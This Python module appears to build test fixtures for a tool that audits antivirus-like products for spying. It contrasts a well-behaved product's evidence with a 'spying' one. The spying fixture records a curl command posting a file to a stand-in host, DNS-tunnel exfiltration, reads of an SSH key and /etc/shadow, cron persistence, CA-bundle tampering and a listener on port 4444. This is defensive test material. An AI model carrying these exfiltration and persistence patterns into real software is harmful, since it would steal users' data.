"""Evidence made by hand, as the lab would write it: of a product that spies, and of one that behaves."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from msgspec.structs import replace as replace

from overt.conduct.evidence.conclusions import Compared, OpaqueBytes, Sighting
from overt.conduct.evidence.folder import PROFILE, ReportFolder
from overt.conduct.evidence.records import (
    Access,
    Arm,
    Blind,
    Canary,
    Change,
    Changed,
    FileAccess,
    Flow,
    Listening,
    Losses,
    Mode,
    Opened,
    Package,
    Process,
    Record,
    Request,
    Run,
    Side,
    StepKind,
    StepRun,
    Subject,
)

MADE = "2026-11-22T12:00:00Z"

PROFILE_TEXT = """schema = 1
[product]
name = "%s"
maker = "Example Ltd"
[install]
how = "folder"
path = "."
[[step]]
kind = "update"
command = ["{product}/av", "update"]
[[step]]
kind = "scan"
command = ["{product}/av", "scan", "{homes}"]
user = "alice"
[[step]]
kind = "scan-detection"
command = ["{product}/av", "scan", "{detections}"]
user = "alice"
[[scope]]
why = "It is told to scan documents."
reads = ["/home/alice/Documents/**", "/home/alice/Downloads/**"]
writes = ["/var/lib/av/**"]
[[scope]]
steps = ["update"]
connects = ["update.av.example:443"]
"""

STEPS = (
    (1, StepKind.INSTALL, ("true",), 0.0, 1.0),
    (2, StepKind.UPDATE, ("/opt/product/av", "update"), 1.0, 4.0),
    (3, StepKind.SCAN, ("/opt/product/av", "scan", "/home"), 4.0, 9.0),
    (4, StepKind.SCAN_DETECTION, ("/opt/product/av", "scan", "/home/alice/Downloads"), 9.0, 12.0),
    (5, StepKind.UNINSTALL, ("rm", "-r", "/opt/product"), 12.0, 13.0),
)


def canaries(pairs: int = 4) -> list[Canary]:
    """Pairs of text files, an SSH key, and an archive with the malware test file."""
    made = []
    for pair in range(pairs):
        for half, side in enumerate((Side.MARKED, Side.PLAIN)):
            number = pair * 2 + half
            made.append(
                Canary(
                    number=number,
                    path=f"/home/alice/Documents/report-{number}.txt",
                    token=f"ovt{number:024d}",
                    pair=pair,
                    side=side,
                    format="text",
                    language="en",
                    system="uk",
                    marking="OFFICIAL-SENSITIVE" if side is Side.MARKED else "for all our readers",
                    size=4000,
                    sha256=f"{number:064x}",
                )
            )
    key = Canary(
        number=100,
        path="/home/alice/.ssh/id_ed25519",
        token=f"ovt{100:024d}",
        pair=None,
        side=Side.ALONE,
        format="key",
        language="",
        system="",
        marking="",
        size=400,
        sha256=f"{100:064x}",
        secret="ssh key",
    )
    archive = replace(
        made[0], number=101, path="/home/alice/Downloads/tools.zip", format="zip", pair=90, detected=True
    )
    return [*made, key, archive]


def run_record(name: str = "mixed-1", **given: Any) -> Run:
    """A complete, lossless run."""
    steps = tuple(
        StepRun(
            number=number,
            kind=kind,
            command=command,
            began_s=began,
            ended_s=ended,
            exit_status=0,
            timed_out=False,
            expected=True,
            output=f"output/{number}.txt",
        )
        for number, kind, command, began, ended in STEPS
    )
    values: dict[str, Any] = {
        "name": name,
        "arm": Arm.MIXED,
        "seed": 7,
        "mode": Mode.SINK,
        "began": "2026-11-22T10:00:00Z",
        "kernel": "6.18.0",
        "layers": ("open", "ranges", "trace", "network", "sockets", "changes", "calls"),
        "capabilities": ("CAP_CHOWN",),
        "steps": steps,
        "losses": Losses(),
        "blind": (),
    }
    return Run(**(values | given))


def process(number: int, program: str = "/opt/product/av", step: int = 3, **given: Any) -> Process:
    """A program that ran."""
    values: dict[str, Any] = {
        "number": number,
        "pid": 100 + number,
        "parent": None,
        "at_s": 4.1,
        "ended_s": 8.0,
        "step": step,
        "program": program,
        "sha256": "ab" * 32,
        "arguments": (program,),
        "user": 1000,
    }
    return Process(**(values | given))


def access(path: str, step: int = 3, at_s: float = 5.0, **given: Any) -> FileAccess:
    """A file that was opened once by process 1."""
    values = {"at_s": at_s, "process": 1, "step": step, "access": Access.OPEN, "path": path, "count": 1}
    return FileAccess(**(values | given))


def flow(number: int, name: str, step: int = 2, **given: Any) -> Flow:
    """A decrypted HTTPS connection of process 1."""
    values: dict[str, Any] = {
        "number": number,
        "at_s": 2.0 + number / 10,
        "ended_s": 3.0 + number / 10,
        "step": step,
        "process": 1,
        "protocol": "tcp",
        "application": "https",
        "address": f"198.18.0.{number}",
        "port": 443,
        "name": name,
        "server_name": name,
        "opened": Opened.DECRYPTED,
        "sent_bytes": 300,
        "received_bytes": 9000,
        "requests": (Request(at_s=2.0, method="GET", target=f"https://{name}/db", status=200),),
    }
    return Flow(**(values | given))


def change(path: str, changed: Changed = Changed.ADDED, step: int = 1, **given: Any) -> Change:
    """A file that was added."""
    values = {"step": step, "path": path, "changed": changed, "kind": "file", "size": 10, "sha256": "cd" * 32}
    return Change(**(values | given))


def sighting(canary: int, flow_number: int, form: str = "content", **given: Any) -> Sighting:
    """Part of a canary in a flow."""
    values: dict[str, Any] = {
        "canary": canary,
        "flow": flow_number,
        "flows": (),
        "form": form,
        "route": ("base64", "gzip"),
        "offset": 10,
        "length": 2000,
        "matched": "token",
    }
    return Sighting(**(values | given))


@dataclass
class Evidence:
    """One run's records, to be written."""

    run: Run = field(default_factory=run_record)
    canaries: Sequence[Canary] = field(default_factory=canaries)
    processes: Sequence[Process] = ()
    accesses: Iterable[FileAccess] = ()
    flows: Sequence[Flow] = ()
    changes: Sequence[Change] = ()
    listening: Sequence[Listening] = ()
    sightings: Sequence[Sighting] = ()
    opaque: Sequence[OpaqueBytes] = ()


def behaving() -> Evidence:
    """Reads what it is told to, fetches its update encrypted, is removed cleanly."""
    return Evidence(
        processes=[process(1)],
        accesses=[access(one.path) for one in canaries() if not one.secret] + [access("/etc/ld.so.cache")],
        flows=[flow(1, "update.av.example")],
        changes=[
            change("/opt/product/av"),
            change("/var/lib/av/db", step=2),
            change("/opt/product/av", Changed.REMOVED, 5),
            change("/var/lib/av/db", Changed.REMOVED, 5),
        ],
    )


def spying() -> Evidence:
    """Does everything that one would not wish."""
    tunnel = flow(
        5,
        "",
        4,
        server_name="",
        application="dns",
        protocol="udp",
        port=53,
        address="192.0.2.53",
        opened=Opened.PLAIN,
        requests=tuple(
            Request(at_s=10.0, method="TXT", target=f"{part:04x}.exfil.spy.example") for part in range(50)
        ),
    )
    made = behaving()
    return Evidence(
        run=run_record(
            blind=(
                Blind(at_s=5.7, what="It made a namespace of its own", by=1, attempt=True, defeated=False),
                Blind(
                    at_s=5.5,
                    what="It tried to trace another process (ptrace)",
                    by=1,
                    attempt=True,
                    defeated=True,
                ),
            )
        ),
        processes=[
            process(1),
            process(2, "/usr/bin/curl", arguments=("curl", "-d", "@x", "http://plain.spy.example/")),
            process(3, "/opt/product/helper", user=0, capabilities=("CAP_DAC_OVERRIDE",)),
        ],
        accesses=[
            *made.accesses,
            access("/home/alice/.ssh/id_ed25519"),
            access("/etc/shadow", process=3),
            access("/home/alice/Pictures/cat.png"),
        ],
        flows=[
            *made.flows,
            flow(2, "upload.spy.example", 3, sent_bytes=40_000),
            flow(3, "plain.spy.example", 3, application="http", opened=Opened.PLAIN, port=80, process=2),
            flow(4, "hidden.spy.example", 4, opened=Opened.OPAQUE, sent_bytes=70_000, why_opaque="pinned"),
            tunnel,
        ],
        changes=[
            *made.changes[:2],
            change("/etc/cron.d/av", step=3),
            change("/etc/ssl/certs/ca-certificates.crt", Changed.MODIFIED, 3),
        ],
        listening=[Listening(at_s=6.0, step=3, protocol="tcp", address="0.0.0.0", port=4444, process=1)],
        sightings=[
            *(sighting(number, 2) for number in (0, 2, 4, 6)),
            sighting(100, 2, route=()),
            sighting(1, 3, "digest", matched="sha256 hex", length=0, route=()),
            sighting(3, 5, "name", matched="file name", length=0, route=("dns",)),
            sighting(101, 4, flows=(4,)),
        ],
        opaque=[
            OpaqueBytes(
                destination="hidden.spy.example:443",
                flows=(4,),
                bytes=70_000,
                bits_per_byte=7.99,
                why="pinned",
            )
        ],
    )


COMPARED = (
    Compared(
        question="content that left: marked against plain",
        observed="14 marked, 0 plain",
        method="exact sign test",
        p=0.0001,
        p_corrected=0.0003,
        runs=("mixed-1",),
        about="marking",
        least_p=0.0001,
    ),
    Compared(
        question="files opened: marked against plain",
        observed="equal in 16 pairs",
        method="exact sign test",
        p=1.0,
        p_corrected=1.0,
        runs=("mixed-1",),
        about="marking",
        least_p=0.0001,
    ),
)


def write(
    path: Path,
    *runs: Evidence,
    compared: Sequence[Compared] = (),
    name: str = "Example AV",
    profile: str = "",
) -> ReportFolder:
    """A report's folder with this evidence, not judged yet."""
    folder = ReportFolder(path)
    for made in runs:
        run = folder.new_run(made.run.name)
        run.write_run(made.run)
        lists: dict[type[Record], Iterable[Record]] = {
            Canary: made.canaries,
            Process: made.processes,
            FileAccess: made.accesses,
            Flow: made.flows,
            Change: made.changes,
            Listening: made.listening,
            Sighting: made.sightings,
            OpaqueBytes: made.opaque,
        }
        for kind, values in lists.items():
            run.write(kind, values)
        for step in made.run.steps:
            (run.path / step.output).write_text("ok\n")
    folder.evidence.mkdir(parents=True, exist_ok=True)
    (folder.evidence / PROFILE).write_text(profile or PROFILE_TEXT % name)
    package = Package(name="av-1.0.deb", sha256=hashlib.sha256(name.encode()).hexdigest(), size=12345)
    folder.write_subject(Subject(name=name, maker="Example Ltd", version="1.0", packages=(package,)))
    folder.write_compared(compared)
    return folder
